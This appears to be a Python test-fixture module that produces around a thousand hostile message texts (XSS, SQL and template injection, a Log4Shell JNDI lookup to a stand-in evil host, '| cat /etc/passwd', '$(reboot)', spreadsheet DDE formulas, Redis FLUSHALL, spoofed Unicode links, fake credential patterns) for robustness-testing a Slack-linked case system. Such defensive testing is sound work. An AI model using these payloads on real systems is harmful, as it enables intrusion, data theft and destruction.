"""A thousand hostile texts, each curated: families of payloads, put into every place of a message.

The same table makes the same texts, in the same order. What looks like a secret is put together
from pieces, so that no scanner takes this file for a leak; none of it is one.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import chain
from types import MappingProxyType
from typing import Final

FAMILIES: Final = MappingProxyType(
    {
        "broadcasts": (
            "<!channel>",
            "<!here|here>",
            "<!everyone>",
            "<!subteam^S012AB3CD>",
            "<!channel|@x>",
            "<!subteam^S012AB3CD|@team>",
            "<!date^1^{date}|<!channel>>",
            "@channel @here @everyone",
        ),
        "people": (
            "<@U0ANA>",
            "<@U0ANA|ana>",
            "<@W012AB3CD>",
            "<#C012AB3CD>",
            "<#C012AB3CD|care>",
            "<@U0ANA",
            "@ana",
            "<mailto:ana@example.com|ana>",
        ),
        "half escaped": (
            "&lt;!channel&gt;",
            "&amp;lt;!here&amp;gt;",
            "&#60;!channel&#62;",
            "&",
            "&amp",
            "&&lt;",
            "%3C!channel%3E",
            "\\u003c!channel\\u003e",
            "<<!channel>>",
            "<!chan\u200bnel>",
        ),
        "links": (
            "<https://evil.example|https://bank.example>",
            "https://bank.example@evil.example/login",
            "https://evil.example\\@bank.example/",
            "//evil.example/x",
            "www.evil.example/login",
            "evil.example/login?a=1",
            "HTTPS://EVIL.EXAMPLE/X",
            "https:///evil.example/x",
            "[bank](https://evil.example)",
            "https://[::1]/x",
            "https://127.0.0.1:8080/admin",
            "https://evil.example/" + "a" * 3000,
            "https://" + "a." * 400 + "example/x",
        ),
        "schemes": (
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "data:text/html,<script>x</script>",
            "vbscript:msgbox(1)",
            "file:///etc/passwd",
            "slack://user?team=T1&id=U1",
            "tel:+4900000000",
            "<tel:110|call>",
            "java\u200bscript:alert(1)",
            "ftp://evil.example/x",
        ),
        "look-alikes": (
            "https://\u0430pple.example/id",
            "https://xn--pple-43d.example/id",
            "https://bank\u2024example/x",
            "https://evil\u3002example/x",
            "https\uff1a//evil.example",
            "https://bank.example\u2215evil.example/x",
            "\uff1c!channel\uff1e",
            "ht\u00adtps://evil.example",
            "https://\u202eelpmaxe.live/x",
            "https://evil\u200b.example/x",
        ),
        "markup": (
            "*bold* _it_ ~gone~",
            "`code`",
            "``` fence\nunclosed",
            "```\n<!channel>\n```",
            "> quote",
            ">>> quote\nall",
            "&gt; quote",
            "# title",
            "* one\n* two",
            ":rotating_light: :tada:",
            "||spoiler||",
            "*_~`" * 50,
        ),
        "directions": (
            "\u202etxet\u202c",
            "\u2066x\u2069\u2067y\u2069",
            "\u200e\u200f\u061c",
            "\u202a\u202b\u202d",
            "\u05e9\u05dc\u05d5\u05dd <!here> \u05e9\u05dc\u05d5\u05dd",
            "\u0645\u0631\u062d\u0628\u0627",
            "(\u202e)evil(\u202c)",
        ),
        "unseen": (
            "\u200b\u200b\u200b",
            "\ufeff",
            "\u2060\u2061\u2062",
            "\u3164\u115f\uffa0",
            "\u00ad",
            "\U000e0041\U000e0042",
            "\u034f",
            "\u180e",
            "\ufe0f\ufe0e",
            "\u200d\u200c\u200d",
        ),
        "marks": (
            "Z" + "\u0301" * 300,
            "e\u0301\u0323" * 200,
            "\u0301\u0301\u0301",
            "\u20dd" * 50,
            "\u0e49" * 100,
            "a\u0489\u0489\u0489",
        ),
        "astral": (
            "\U0010ffff",
            "\U0001f600" * 300,
            "\U0001d5d5\U0001d5ee\U0001d5fb\U0001d5f8",
            "\ufffe\uffff",
            "\U000f0000",
            "\U00020000\U0002a6d6",
        ),
        "lone surrogates": (
            "\ud83d",
            "\udc00",
            "\ud800\ud800",
            "\udfff\ud800",
            "a\ud83db",
            "<\ud800!channel>",
        ),
        "controls": (
            "\x00",
            "a\x00b",
            "\x07\x08",
            "\x7f\x80\x9f",
            "\x1a\x04",
            "\r",
            "\x0b\x0c",
            "<\x00!channel>",
            "\x85\u2028\u2029",
        ),
        "terminals": (
            "\x1b[31mred\x1b[0m",
            "\x1b]0;title\x07",
            "\x1b]8;;https://evil.example\x1b\\x",
            "\x9b2J",
            "\x1bc",
            "\x1b[2K\rroot@host:~#",
        ),
        "lengths": (
            "x" * 20_000,
            "word " * 4000,
            "<" * 5000,
            "&" * 9000,
            "\n" * 4000,
            "a\n" * 3000,
            "\u00df" * 5000,
            "@" * 5000,
            "https://evil.example/ " * 400,
        ),
        "emoji": (
            "\U0001f468\u200d\U0001f469\u200d\U0001f467",
            "\U0001f44d\U0001f3fd" * 40,
            "\U0001f1e9\U0001f1ea" * 40,
            "\U0001f1e9",
            "\u2764\ufe0f\u200d\U0001f525",
            "\U0001f468\u200d" * 100,
            "1\ufe0f\u20e3",
        ),
        "pages": (
            "<script>alert(1)</script>",
            "</script><script>x</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            '"><iframe src=//evil.example>',
            "<!--",
            "<![CDATA[x]]>",
            "<a href='https://evil.example/'>x</a>",
        ),
        "templates": (
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "%s%s%n %(x)s",
            "{0} {x!r} {",
            "$(reboot)",
            "`reboot`",
            "{% raw %}",
            "\\1 \\g<0>",
            "${jndi:ldap://evil.example/a}",
        ),
        "sheets": (
            "=1+1",
            '=HYPERLINK("https://evil.example/x","y")',
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "\t=cmd|' /C calc'!A0",
            "a,b;c\td",
            '"""',
        ),
        "queries": (
            "'; DROP TABLE cases; --",
            "1 OR 1=1",
            "*:*",
            "$where: 1",
            "../../etc/passwd",
            "..\\..\\x",
            "| cat /etc/passwd",
            '{"$gt": ""}',
        ),
        "ledgers": (
            "*3\r\n$3\r\nSET\r\n",
            "return redis.call('FLUSHALL')",
            "{s00}:cases",
            "]] os.exit() --[[",
            "\x00\x00\x00\x10cases.events.v1",
            "+OK\r\n-ERR\r\n",
            "effects:slack|1|2|3|",
            "a\x1fb\x1ec",
        ),
        "log lines": (
            "x\n2026-03-04 12:00:00 [error] all is lost",
            "x\r\nSet-Cookie: a=b",
            'level=error msg="x"',
            "x\u2028ERROR y",
            "\nTraceback (most recent call last):",
            "x\\nERROR y",
        ),
        "JSON": (
            '{"type":"broadcast","range":"channel"}',
            '"}],"text":"<!channel>"',
            '\\"',
            "\\",
            "[[[[[[[[",
            '{"a":' * 60,
            "null",
            "\\ud800",
            '{"blocks":[]}',
            '"',
        ),
        "numbers": (
            "0",
            "-0",
            "NaN",
            "Infinity",
            "1e999",
            "0x7f",
            "1" * 400,
            "1_000",
            "\u0663\u0664",
            "true",
            "None",
            "undefined",
        ),
        "names of ours": (
            "s07-0000000000000000-1",
            "v1:abc",
            "case_claim",
            "x:acme:1000001",
            "card:s07",
            "\x1fslack",
            "claimed by @ana",
            "\u2705 answered",
            "\u2611\ufe0f Resolved by @ana",
        ),
        "secrets": (
            "xox" + "b-000000000000-sandbox",
            "AK" + "IA" + "X" * 16,
            "gh" + "p_" + "x" * 36,
            "-----BEGIN " + "PRIVATE KEY-----",
            "password: hunter2",
            "4929 0000 0000 0000",
            "Bearer " + "e" * 40,
        ),
    }
)
"""What has broken a bridge, a page or a reader somewhere, by what it tries."""
_WORD: Final = "My parcel"
_QUOTE: Final = 2500
"""Near where the words of a card are cut, so that the cut falls into the payload."""


def _places(payload: str) -> Iterator[str]:
    """Yield a payload in every place of a message."""
    yield payload
    yield f"{_WORD} {payload} never came"
    yield f"{payload}{payload}"
    yield f"{_WORD}{payload}never came"
    yield f"{_WORD}\n{payload}\n\nnever came"
    yield f"{_WORD} \u200b{payload}\u200b \u202e{payload}"
    yield f"{_WORD} ({payload}) \u201c{payload}\u201d, <{payload}>"
    yield f"{_WORD} {'x ' * ((_QUOTE - len(payload[:200])) // 2)}{payload}"


def texts_of(family: str) -> tuple[str, ...]:
    """Return the texts of a family, each once."""
    return tuple(dict.fromkeys(chain.from_iterable(_places(one) for one in FAMILIES[family])))


def all_texts() -> tuple[str, ...]:
    """Return all texts, each once."""
    return tuple(dict.fromkeys(chain.from_iterable(texts_of(family) for family in FAMILIES)))
